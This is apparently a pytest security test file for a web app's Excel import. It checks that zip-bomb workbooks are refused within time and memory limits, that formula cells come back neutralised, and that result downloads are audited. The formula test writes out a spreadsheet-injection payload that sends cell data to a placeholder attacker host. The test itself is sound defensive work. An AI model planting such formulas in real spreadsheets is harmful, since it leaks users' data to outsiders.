"""An import workbook cannot cost a worker more than its budget
(measured in a fresh process), and the result workbooks never hand back a formula."""
import io
import json
import os
import subprocess
import sys
import textwrap

import openpyxl
import pytest

from tests.security import bombs

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(__file__)))
MEASURE = textwrap.dedent("""
    import json, sys, time
    from app import create_app
    app = create_app({"TESTING": True, "SECRET_KEY": "x", "DATABASE_URL": "sqlite:///" + sys.argv[2],
                      "UPLOAD_DIR": sys.argv[3]})
    from services import excel
    started = time.perf_counter()
    message = None
    with app.test_request_context():
        try:
            rows = excel.read_rows(sys.argv[1])
            excel.parse_rows(rows, list(excel.KINDS["learner_accounts"].columns(None)))
        except excel.ImportFileError as error:
            message = str(error)
    # VmHWM: this process's peak resident memory (ru_maxrss would carry the forking
    # parent's peak across exec).
    status = open("/proc/self/status").read()
    peak_kb = int(status.split("VmHWM:")[1].split()[0])
    print(json.dumps({"seconds": time.perf_counter() - started, "message": message, "peak_mb": peak_kb / 1024}))
""")


def measure(path, tmp_path):
    result = subprocess.run(
        [sys.executable, "-c", MEASURE, str(path), str(tmp_path / "m.db"), str(tmp_path / "up")],
        cwd=ROOT, capture_output=True, text=True, timeout=120, env={**os.environ, "BABEL_DEFAULT_LOCALE": "en"},
    )
    assert result.returncode == 0, result.stderr[-3000:]
    return json.loads(result.stdout.strip().splitlines()[-1])


@pytest.fixture(scope="module")
def wide_bomb(tmp_path_factory):
    path = tmp_path_factory.mktemp("bomb") / "wide.xlsx"
    bombs.wide(path)
    return path


def test_the_wide_zip_bomb_is_refused_early_and_cheaply(wide_bomb, tmp_path):
    """160 columns × 190 000 rows of <c><v>1</v></c>: 460 MB unpacked, within the upload
    limits; it took 41 s and 2.3 GB before."""
    assert os.path.getsize(wide_bomb) < 20 * 1024 * 1024
    figures = measure(wide_bomb, tmp_path)
    assert "columns" in figures["message"], figures
    assert figures["peak_mb"] <= 400 and figures["seconds"] <= 15, figures


def test_a_sparse_sheet_is_refused_by_its_cell_count(tmp_path):
    path = tmp_path / "sparse.xlsx"
    bombs.sparse(path)
    figures = measure(path, tmp_path)
    assert "cells" in figures["message"], figures
    assert figures["peak_mb"] <= 400 and figures["seconds"] <= 15, figures


def test_result_workbooks_neutralise_formulas(app, client_as, reference):
    """Cells typed as formulas come back as text in the accepted and rejected workbooks."""
    from models import ImportBatch
    from services.files import storage

    center = client_as("center")
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "@SUM(1)", "-2+3"]
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["学员姓名", "身份证号", "手机号码"])
    from tests import factories

    for n, formula in enumerate(formulas):
        sheet.append([formula, factories.valid_id_number(700 + n), f"1380000{n:04d}"])
        sheet.append([f"学员{n}", formula, "13900000000"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = center.post("/admin/learners/import/?kind=learner_accounts",
                           data={"file": (io.BytesIO(buffer.getvalue()), "学员.xlsx")}, content_type="multipart/form-data")
    assert response.status_code in (200, 302), response.get_data(as_text=True)[-1500:]
    batch = ImportBatch.get()
    cells = []
    for attachment in (batch.accepted_file, batch.rejected_file):
        with storage.open_stored(attachment) as handle:
            book = openpyxl.load_workbook(io.BytesIO(handle.read()))
        cells += [c.value for row in book.active.iter_rows(min_row=2) for c in row if c.value]
    typed = [c for c in cells if any(f in c for f in formulas)]
    assert typed and all(c.startswith("'") for c in typed), typed


def test_downloads_of_import_results_and_exports_are_audited(app, client_as, reference, spaces):
    """Item 10: result workbooks (full ID numbers inside) and exports leave an audit entry."""
    from models import AuditLog

    a = spaces.a
    from services.files import filestore

    filestore.current().write(a.result.stored_name, iter([b"PK\x03\x04"]))
    client = client_as(a.admin)
    assert client.get(f"/files/{a.result.id}?download=1").status_code == 200
    entry = AuditLog.get(AuditLog.action == "import_result_downloaded")
    assert (entry.user_id, entry.object_id, entry.details["batch"]) == (a.admin.id, a.result.id, a.batch.id)
    # Another institution's result is not found, and its refusal leaves no download entry.
    assert client_as(spaces.b.admin).get(f"/files/{a.result.id}").status_code == 404
    assert AuditLog.select().where(AuditLog.action == "import_result_downloaded").count() == 1
